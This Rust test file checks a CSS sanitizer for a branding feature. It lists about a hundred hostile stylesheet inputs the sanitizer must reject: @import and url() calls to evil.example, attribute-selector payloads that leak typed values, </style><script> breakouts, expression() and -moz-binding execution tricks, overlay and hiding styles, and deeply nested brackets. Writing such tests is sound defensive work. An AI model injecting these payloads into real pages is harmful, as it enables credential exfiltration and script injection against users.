//! What people have tried with stylesheets: loading, reading what is typed, leaving the style element, hiding what warns,
//! running, and exhausting the reader. Each is refused as a whole; what comes through never reaches beyond the root.

use omnibus_brander::look::stylesheet::{ROOT, scoped};

/// Refused, whatever else stands beside it.
const REFUSED: &[(&str, &str)] = &[
    // Loading.
    ("import", "@import 'https://evil.example/a.css';"),
    ("import by url()", "@import url(https://evil.example/a.css);"),
    ("import with an escape", "@\\69mport 'https://evil.example/a.css';"),
    ("import in capitals", "@IMPORT \"//evil.example\";"),
    ("import after a rule", ".a{color:red}@import '//evil.example';"),
    ("charset", "@charset \"utf-7\";"),
    ("url in background", ".a{background:url(https://evil.example/x.png)}"),
    ("url without a scheme", ".a{background:url(//evil.example/x)}"),
    ("url with quotes", ".a{background-image:url('https://evil.example')}"),
    ("url with an escape", ".a{background:u\\72l(https://evil.example)}"),
    ("url with many zeros", ".a{background:\\000075\\000072\\00006c(https://evil.example)}"),
    ("url in capitals", ".a{background:URL(https://evil.example)}"),
    ("url of a script", ".a{background:url(javascript:alert(1))}"),
    ("url of data", ".a{background:url(data:image/svg+xml;base64,PHN2Zz4=)}"),
    ("url after a comment", ".a{background:/**/url(//evil.example)}"),
    ("src()", ".a{background:src('https://evil.example')}"),
    ("image-set", ".a{background:image-set('https://evil.example/x.png' 1x)}"),
    ("-webkit-image-set", ".a{background-image:-webkit-image-set(url(//evil.example) 1x)}"),
    ("image()", ".a{background-image:image('https://evil.example/x.png')}"),
    ("cross-fade", ".a{background-image:cross-fade(url(a), url(b))}"),
    ("element()", ".a{background:element(#password)}"),
    ("font-face", "@font-face{font-family:x;src:url(https://evil.example/f.woff2)}"),
    ("cursor", ".a{cursor:url(https://evil.example/c.cur),auto}"),
    ("list-style-image", ".a{list-style-image:url(//evil.example)}"),
    ("border-image", ".a{border-image:url(//evil.example) 30}"),
    ("mask", ".a{mask:url(//evil.example#m)}"),
    ("filter", ".a{filter:url(//evil.example#f)}"),
    ("content with a url", ".a::before{content:url(//evil.example)}"),
    ("namespace", "@namespace url(http://www.w3.org/1999/xhtml);"),
    // Reading what is typed.
    ("attribute with a letter", "input[value^=a]{background:url(//evil.example/a)}"),
    ("attribute alone", "input[type=password]{color:red}"),
    ("attribute present", "[data-token]{color:red}"),
    ("attr()", ".a{width:attr(data-token)}"),
    ("has", "form:has(input){color:red}"),
    ("visited", "a:visited{color:red}"),
    ("valid", "input:valid{color:red}"),
    ("autofill", "input:autofill{color:red}"),
    ("checked", "input:checked+a{color:red}"),
    ("unicode-range", "@font-face{font-family:p;src:local(a);unicode-range:U+41}"),
    // Leaving the element.
    ("style end", "</style><script>alert(1)</script>"),
    ("style end in a string", ".a{font-family:'</style><script>alert(1)</script>'}"),
    ("style end in a name", ".\\3c\\2fstyle\\3e{color:red}"),
    ("style end in a font", ".a{font-family:\"\\3c/style>\"}"),
    ("html comment", "<!-- .a{color:red} -->"),
    ("string that does not end", ".a{font-family:'x\n}"),
    // Reaching outside of the root.
    ("nesting", ".a{:not(&){display:none}}"),
    ("nesting a parent", ".a{.b &{color:red}}"),
    ("root", ":root{color:red}"),
    ("scope", ":scope{color:red}"),
    ("host", ":host{color:red}"),
    ("slotted", "::slotted(a){color:red}"),
    ("part", "::part(a){color:red}"),
    ("backdrop", "::backdrop{color:red}"),
    ("at-scope", "@scope (html){.a{color:red}}"),
    ("layer", "@layer reset{.a{color:red}}"),
    ("property", "@property --a{syntax:'*';inherits:false}"),
    // Hiding, covering and moving.
    ("fixed", ".a{position:fixed;inset:0}"),
    ("absolute", ".a{position:absolute}"),
    ("sticky", ".a{position:sticky}"),
    ("z-index", ".a{z-index:2147483647}"),
    ("transform", ".a{transform:translateY(-100vh)}"),
    ("translate", ".a{translate:0 -100vh}"),
    ("opacity", ".a{opacity:0}"),
    ("visibility", ".a{visibility:hidden}"),
    ("display none", ".a{display:none}"),
    ("display none, important", ".a{display:none!important}"),
    ("display contents", ".a{display:contents}"),
    ("negative margin", ".a{margin-top:-1000px}"),
    ("negative margin, calculated", ".a{margin:calc(0px - 100vh)}"),
    ("negative margin, mixed", ".a{margin:calc(1px - 10%)}"),
    ("text-indent", ".a{text-indent:-9999px}"),
    ("clip-path", ".a{clip-path:inset(50%)}"),
    ("pointer-events", ".a{pointer-events:none}"),
    ("height", ".a{height:0;overflow:hidden}"),
    ("content", ".a::before{content:'Your session is safe'}"),
    ("generated text", ".a::after{content:counter(a)}"),
    ("float", ".a{float:left}"),
    ("animation", ".a{animation:x 1s}"),
    ("keyframes", "@keyframes x{from{opacity:0}}"),
    ("mix-blend-mode", ".a{mix-blend-mode:difference}"),
    ("user-select", ".a{user-select:none}"),
    ("-webkit-text-security", "input{-webkit-text-security:none}"),
    ("all", ".a{all:unset}"),
    ("zoom", ".a{zoom:100}"),
    // Running, in browsers past and present.
    ("expression", ".a{width:expression(alert(1))}"),
    ("expression with a comment", ".a{width:expr/**/ession(alert(1))}"),
    ("expression with an escape", ".a{width:\\65xpression(alert(1))}"),
    ("behavior", ".a{behavior:url(x.htc)}"),
    ("-moz-binding", ".a{-moz-binding:url(//evil.example/x.xml#y)}"),
    ("paint()", ".a{background:paint(x)}"),
    ("variables", ".a{color:var(--x)}"),
    ("variable defined", ".a{--x:url(//evil.example)}"),
    ("env()", ".a{padding:env(safe-area-inset-top)}"),
    ("star hack", ".a{*width:expression(1)}"),
    ("supports", "@supports (display:grid){.a{color:red}}"),
    ("document", "@-moz-document url(http://x){.a{color:red}}"),
    ("unknown at-rule", "@evil{.a{color:red}}"),
    // Confusing the reader.
    ("bracket that closes nothing", "}.a{color:red}"),
    ("bracket of another kind", ".a{color:rgb(1,2,3}}"),
    ("media in media", "@media screen{@media (width){.a{color:red}}}"),
    ("url in a media query", "@media (foo:url(//evil.example)){.a{color:red}}"),
];

#[test]
fn every_attack_is_refused_with_words() {
    assert!(REFUSED.len() >= 60);
    for (name, css) in REFUSED {
        match scoped(css) {
            Err(refused) => assert!(!refused.to_string().is_empty(), "{name}"),
            Ok(out) => panic!("{name} came through: {out}"),
        }
        let hidden = format!(".ok{{color:red}}\n{css}\n.fine{{color:blue}}");
        assert!(scoped(&hidden).is_err(), "{name}, between good rules");
    }
}

#[test]
fn deep_brackets_and_long_selectors_end_neither_the_stack_nor_the_patience() {
    for (open, close) in [("(", ")"), ("[", "]"), ("{", "}"), (":not(", ")"), ("calc(", ")"), (":is(:where(", "))")] {
        for times in [40, 400, 4000] {
            let css = format!("a{}b{}{{color:red}}", open.repeat(times), close.repeat(times));
            assert!(scoped(&css).is_err(), "{times} times {open}");
            assert!(scoped(&format!("a{}", open.repeat(times))).is_err(), "{times} times {open}, never closed");
        }
    }
    let long = format!("{} {{color:red}}", "a>".repeat(2000) + "a");
    assert!(scoped(&long).is_err());
    let wide = format!("{} {{color:red}}", vec!["a"; 5000].join(","));
    assert!(scoped(&wide).is_err());
    let started = std::time::Instant::now();
    let full = ".abcdefgh{color:rgb(1,2,3)}".repeat(900);
    assert!(scoped(&full).is_ok());
    assert!(started.elapsed() < std::time::Duration::from_secs(5), "{:?}", started.elapsed());
}

#[test]
fn a_comment_that_does_not_end_is_left_behind_with_all_that_is_in_it() {
    assert_eq!(scoped(".a{color:red} /* </style><script>").unwrap(), format!(".{ROOT} .a{{color:red}}\n"));
}

/// Taken, and still nothing but the brand's own part is reached.
#[test]
fn whatever_comes_through_stands_below_the_root() {
    let css = scoped(
        "html, body, * { color: red }
         .omnibus-security, #consent a, header + main { background: #fff; padding: 1px }
         a:hover, .a > .b ~ .c:not(.d):nth-child(2n+1) { margin: 0 auto; border: 1px solid rgb(0 0 0 / 50%) }
         @media (prefers-color-scheme: dark) { p { background: linear-gradient(red, blue) } }",
    )
    .unwrap();
    for line in css.lines().filter(|line| line.contains('{') && !line.starts_with('@')) {
        let (selectors, _) = line.split_once('{').unwrap();
        for selector in selectors.split(',') {
            assert!(selector.starts_with(&format!(".{ROOT} ")), "{line}");
        }
    }
    assert!(!css.contains("url") && !css.contains('<') && !css.contains('@') || css.contains("@media"), "{css}");
    assert_eq!(scoped(&css).unwrap().lines().count(), css.lines().count(), "what came out goes in again");
}
